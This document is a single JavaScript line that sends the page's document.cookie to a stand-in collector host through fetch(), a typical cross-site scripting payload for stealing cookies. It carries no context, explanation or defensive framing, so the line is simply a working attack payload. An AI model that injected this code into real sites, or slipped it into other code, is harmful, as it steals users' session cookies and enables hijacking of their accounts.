fetch("https://collector.example/?" + document.cookie);
